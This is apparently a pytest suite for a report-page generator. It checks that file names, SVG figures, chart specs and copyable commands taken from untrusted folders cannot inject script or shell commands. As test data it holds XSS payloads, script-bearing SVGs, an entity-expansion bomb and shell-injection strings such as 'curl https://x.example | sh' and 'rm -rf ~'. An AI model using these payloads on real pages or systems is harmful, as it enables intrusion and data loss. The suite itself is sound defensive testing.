"""Pages made from other people's folders: no name, word, number or drawing in them runs, and what got in would be left alone."""

import base64
import hashlib
import json
import re
import subprocess
import threading
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pandas as pd
import pytest
from matplotlib.figure import Figure
from real_browser import IN_A_BROWSER, Visits
from real_browser import chromium as chromium

from experiments.analysis.verdicts.brief import Brief
from experiments.report import generic_page, strangers
from experiments.report.drawing import Drawing, save
from experiments.report.glossary import Glossary
from experiments.report.layout import Section, Shown, Table, as_address, part_of_page, program
from experiments.report.templating import render

SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" {}>{}</svg>'
NAMES = [
    'x"><img src=q onerror=window.owned=1>',
    "x' onerror='window.owned=1",
    'x" onload="window.owned=1" y="',
    "a b",
    "A",
    "a&b",
    "a<b",
    "a\nb",
    "javascript:alert(1)",
    "na\u202eme",
    "%22onerror=x",
]
PROGRAMS = {
    "script": SVG.format("", "<script>window.owned=1</script>"),
    "script of another name space": SVG.format("", '<x:script xmlns:x="http://www.w3.org/1999/xhtml">1</x:script>'),
    "event": SVG.format('onload="window.owned=1"', ""),
    "event inside": SVG.format("", '<g><rect width="1" height="1" OnClick="1"/></g>'),
    "page inside": SVG.format("", "<foreignObject><b xmlns='http://www.w3.org/1999/xhtml'>x</b></foreignObject>"),
    "link": SVG.format("", '<a xlink:href="javascript:window.owned=1"><text>x</text></a>'),
    "link elsewhere": SVG.format("", '<a href="https://x.example"><text>x</text></a>'),
    "picture from elsewhere": SVG.format("", '<image href="https://x.example/x.png"/>'),
    "page as a picture": SVG.format("", '<image href="data:text/html,x"/>'),
    "link set later": SVG.format("", '<a><set attributeName="href" to="javascript:1"/></a>'),
    "style from elsewhere": SVG.format("", "<style>@import 'https://x.example/x.css';</style>"),
    "fill from elsewhere": SVG.format("", '<rect style="fill: url( https://x.example/x.svg#a)"/>'),
    "style sheet": f'<?xml-stylesheet href="https://x.example"?>{SVG.format("", "")}',
    "bomb": f'<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>{SVG.format("", "<text>&b;</text>")}',
    "no drawing": "<html/>",
    "half": "<svg",
}
BAD = "</script><script>window.owned=1</script><!-- \u2028\u2029 ]]> & 'a' \"b\" <img src=x onerror=window.owned=1>"


class Tags(HTMLParser):
    """The tags of a page, their attributes, and what stands in styles, programs and data."""

    def __init__(self, page):
        super().__init__()
        self.tags, self.inside = [], []
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        if self.tags and self.tags[-1][0] in ("script", "style") and self.rawdata:
            self.inside.append((self.tags[-1], data))

    def allowed(self):
        (policy,) = [a["content"] for t, a in self.tags if a.get("http-equiv") == "Content-Security-Policy"]
        return dict(part.strip().split(" ", 1) for part in policy.split(";"))


def folder(out, **manifest):
    """A finished folder of a question."""
    (out / "figures").mkdir(parents=True)
    kept = {"question": "sweep", "outputs": {}, **manifest}
    (out / "manifest.json").write_text(json.dumps(kept), encoding="utf-8")
    return out


def harmless(page):
    """The page, once it is certain that nothing in it runs but our own program."""
    tags = Tags(page)
    assert not [(t, a) for t, a in tags.tags for name in a if name.startswith("on")]
    run = [text for (t, a), text in tags.inside if t == "script" and a.get("type") != "application/json"]
    assert {text for text in run if text.strip()} <= {program()}
    assert {a["srcset"].partition(",")[0] for t, a in tags.tags if t == "source"} <= {"data:image/svg+xml;base64"}
    assert {a["src"].partition(",")[0] for t, a in tags.tags if t == "img"} <= {"data:image/svg+xml"}
    assert not [a["href"] for t, a in tags.tags if not a.get("href", "#").startswith("#")]
    return tags


@pytest.mark.parametrize("name", NAMES)
def test_a_file_with_a_name_that_is_more_than_a_name_is_left_out_and_said(tmp_path, name):
    out = folder(tmp_path / "out")
    (out / f"figures/{name}.svg").write_text(SVG.format("", "<title>t</title>"))
    (out / f"figures/{name}.alt.txt").write_text("a")
    (out / f"{name}.csv").write_text("a\n1\n")
    (out / "figures/plain_name-1.0.svg").write_text(SVG.format("", "<title>t</title>"))
    page = generic_page.page(out)
    tags = harmless(page)
    assert [a["id"] for t, a in tags.tags if t == "h3"] == ["plain_name-1.0"]
    assert "1 file in figures is left out" in page
    assert "1 file in out is left out" in page
    assert len(name) == 1 or name not in page


def test_a_link_is_no_figure(tmp_path):
    out = folder(tmp_path / "out")
    (tmp_path / "secret.svg").write_text(SVG.format("", "<title>secret</title>"))
    (out / "figures/a.svg").symlink_to(tmp_path / "secret.svg")
    (out / "b.csv").symlink_to("/dev/zero")
    page = generic_page.page(out)
    assert "secret" not in page
    assert "1 file in figures is left out" in page


@pytest.mark.parametrize("drawing", PROGRAMS.values(), ids=PROGRAMS)
def test_a_drawing_that_does_more_is_left_out_and_said(tmp_path, drawing):
    out = folder(tmp_path / "out")
    (out / "figures/a.svg").write_text(drawing)
    page = generic_page.page(out)
    harmless(page)
    assert "<img" not in page
    assert "This figure is left out: a.svg " in page


@pytest.mark.parametrize("drawing", PROGRAMS.values(), ids=PROGRAMS)
def test_a_drawing_for_phones_that_does_more_is_left_out_and_said(tmp_path, drawing):
    out = folder(tmp_path / "out")
    (out / "figures/a.svg").write_text(SVG.format("", "<title>t</title>"))
    (out / "figures/a.narrow.svg").write_text(drawing)
    page = generic_page.page(out)
    harmless(page)
    assert "<source" not in page
    assert "This figure is left out: a.narrow.svg " in page


def test_a_drawing_without_end_is_not_read(tmp_path, monkeypatch):
    monkeypatch.setattr(strangers, "LARGEST_DRAWING", 100)
    (tmp_path / "a.svg").write_text(SVG.format("", "<g/>" * 100))
    with pytest.raises(ValueError, match="larger than any drawing"):
        strangers.read_drawing(tmp_path / "a.svg")


@pytest.mark.parametrize("title", ["A & B", "A < B", BAD, "bell \x07 \x1b[31m", "-- ]]>", "£5 & $x$", "\ufffe?"])
def test_our_own_drawings_hold_any_title(tmp_path, title):
    out = folder(tmp_path / "out")
    figure = Figure(figsize=(2, 2), layout="constrained")
    figure.subplots().set_title(title.replace("$", ""))
    save(Drawing(title, "c", figure, title, pd.DataFrame({"a": [1]})), out / "figures", "A & <b>")
    files = sorted((out / "figures").glob("*.svg"))
    assert [file.name for file in files] == ["a____b_.narrow.svg", "a____b_.svg"]
    narrow, kept = (strangers.read_drawing(file)[1].findtext("{http://www.w3.org/2000/svg}title") for file in files)
    assert narrow == kept == re.sub("[\x07\x1b\u2028\u2029\ufffe]", "", title)
    tags = harmless(generic_page.page(out))
    assert [a["aria-label"] for t, a in tags.tags if a.get("class") == "wide still both"] == [kept]
    assert ET.fromstring(as_svg(tags)).findtext("{http://www.w3.org/2000/svg}title") == kept


def as_svg(tags):
    """The one picture of a page as a browser decodes it."""
    from urllib.parse import unquote

    (source,) = [a["src"] for t, a in tags.tags if t == "img"]
    return unquote(source.partition(",")[2])


def test_every_word_of_a_folder_is_a_word(tmp_path):
    words = dict.fromkeys(("place_title", "sentence", "caution", "purpose", "python", "model_version", "seed"), BAD)
    out = folder(tmp_path / "out", **words, told=[BAD], contrast=[BAD, BAD], vintage={BAD: BAD}, sweep={BAD: [BAD]})
    (out / "sweep.csv").write_text(pd.DataFrame({BAD: [BAD]}).to_csv(index=False))
    (out / "figures/a.svg").write_text(SVG.format("", "<title>&lt;b&gt;</title>"))
    (out / "figures/a.alt.txt").write_text(BAD)
    (out / "figures/a.caption.txt").write_text(BAD)
    harmless(generic_page.page(out))


def test_no_bracket_of_a_chart_is_a_tag():
    spec = {"title": BAD, BAD: [BAD, {"description": BAD}]}
    shown = Shown("a", "b", "c", as_address(SVG.format("", "")), "d", Table("t"), "", spec)
    page = render(
        "generic_page.html.j2", title="t", style="", said=[BAD], told=[BAD], purpose="p", cautions=[], links=[],
        sections=[Section("s", "h", [shown])], tables=[], explain=Glossary(), assumed={}, command="c", made_with={},
        program=program(),
    )  # fmt: skip
    harmless(page)
    (content,) = re.findall(r'<script type="application/json" id="spec_a">(.*?)</script>', page, re.DOTALL)
    assert not set("<>&'") & set(content)
    assert json.loads(content) == spec


def test_a_browser_may_apply_and_run_what_is_ours_and_nothing_else(tmp_path):
    style, program = part_of_page("page.css"), part_of_page("page.js")
    told = render("base.html.j2", title="t", style=style)
    assert "script-src" not in Tags(told).allowed()
    report = render(
        "report.html.j2", title=BAD, style=style, program=program, purpose=BAD, cautions=[], links=[],
        told=Brief(BAD, []), policies=None, made="", explain=Glossary(), differences=[], how_to_read={}, sections=[], assumed={},
        command="", made_with={},
    )  # fmt: skip
    allowed = Tags(report).allowed()
    inside = {tag: re.findall(rf"<{tag}>(.*?)</{tag}>", report, re.DOTALL) for tag in ("style", "script")}
    for tag, (content,) in inside.items():
        digest = base64.b64encode(hashlib.sha256(content.encode()).digest()).decode()
        assert allowed[f"{tag}-src"] == f"'sha256-{digest}'"
    nothing = {name: allowed[name] for name in ("default-src", "base-uri", "form-action")}
    assert set(nothing.values()) == {"'none'"}
    assert allowed["img-src"] == "data:"
    assert "unsafe" not in str(allowed)


@pytest.mark.parametrize(
    "typed",
    [
        ["years=1; curl https://x.example | sh"],
        ["$(touch owned)", "`touch owned`", "&&", "touch", "owned"],
        ["years=1;touch owned", "|", "sh", "> owned"],
        ["'unended"],
        ["\nrm -rf ~"],
    ],
)
def test_a_command_to_copy_is_one_command_of_ours(tmp_path, typed):
    (tmp_path / "design.json").write_text(json.dumps({"overrides": typed}))
    command = generic_page.command({"question": "compare\ntouch owned"}, tmp_path)
    line = f"redesign() {{ echo called; }}; {command}"
    ran = subprocess.run(["sh", "-c", line], cwd=tmp_path, capture_output=True, text=True)
    assert (ran.stdout, ran.stderr) == ("called\n", "")
    assert [path.name for path in tmp_path.iterdir()] == ["design.json"]


class TestInABrowser:
    """What a browser does with such pages; each page is one that ran something before."""

    pytestmark = IN_A_BROWSER

    @pytest.fixture
    def elsewhere(self):
        """An address that remembers whatever is fetched from it."""
        fetched = []

        class Stranger(BaseHTTPRequestHandler):
            def do_GET(self):
                fetched.append(self.path)
                self.send_error(404)

            do_POST = do_GET  # noqa: N815

        with ThreadingHTTPServer(("127.0.0.1", 0), Stranger) as server:
            thread = threading.Thread(target=server.serve_forever, daemon=True)
            thread.start()
            yield f"http://127.0.0.1:{server.server_port}", fetched
            server.shutdown()

    @pytest.fixture
    def opened(self, chromium, tmp_path):
        with Visits(chromium) as visits:

            def come(page):
                file = tmp_path / "page.html"
                file.write_text(page, encoding="utf-8")
                tab = visits.page()
                tab.goto(file.as_uri())
                tab.wait_for_timeout(500)
                return tab

            yield come, visits

    def test_names_and_drawings_run_nothing(self, opened, tmp_path):
        come, visits = opened
        out = folder(tmp_path / "out", sentence=BAD, place_title=BAD)
        for k, name in enumerate(NAMES):
            (out / f"figures/{name}.svg").write_text(SVG.format("", f"<title>{k}</title>"))
        for k, drawing in enumerate(PROGRAMS.values()):
            (out / f"figures/n{k}.svg").write_text(drawing)
        tab = come(generic_page.page(out))
        assert tab.evaluate("window.owned") is None
        assert visits.console_errors == visits.page_errors == []
        assert len(visits.asked) == 1

    def test_what_got_into_a_page_is_left_alone(self, opened, elsewhere):
        come, visits = opened
        there, fetched = elsewhere
        bad = (
            "<script>window.owned=1</script><img src=x onerror='window.owned=2'><img src='https://x.example/x.png'>"
            "<style>h1{display:none}</style><h1 id=h style='display:none'>x</h1><iframe srcdoc='<script>top.owned=3</script>'>"
            "</iframe><a id=a href='javascript:window.owned=4'>a</a><form id=f action='https://x.example'></form>"
            "<base href='https://x.example/'><object data='data:text/html,x'></object><script src=//x.example/x.js></script>"
        )
        bad = bad.replace("https://x.example", there).replace("//x.example", there)
        page = render("base.html.j2", title="t", style=part_of_page("page.css"))
        tab = come(page.replace("<main ", f"{bad}<main "))
        tab.evaluate("document.getElementById('a').click(); document.getElementById('f').submit()")
        tab.wait_for_timeout(500)
        assert tab.evaluate("[window.owned, getComputedStyle(document.getElementById('h')).display]") == [None, "block"]
        assert fetched == []
        assert len(visits.console_errors) >= 6  # the browser says what it refused
